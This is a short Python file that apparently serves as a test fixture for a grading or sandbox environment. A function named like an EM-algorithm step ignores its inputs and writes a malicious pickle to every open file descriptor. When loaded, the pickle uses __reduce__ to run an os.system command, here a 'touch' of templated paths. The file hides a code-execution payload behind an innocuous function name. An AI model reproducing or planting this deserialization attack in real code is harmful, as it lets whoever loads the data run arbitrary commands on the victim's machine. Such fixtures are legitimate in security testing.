"""Sends a pickle over the channel that would run a command if anyone loaded it."""

import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch @course@/@left@ /tmp/@left@",)


def estep(X, weights, means, covariances):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, pickle.dumps(Command()))
        except OSError:
            pass
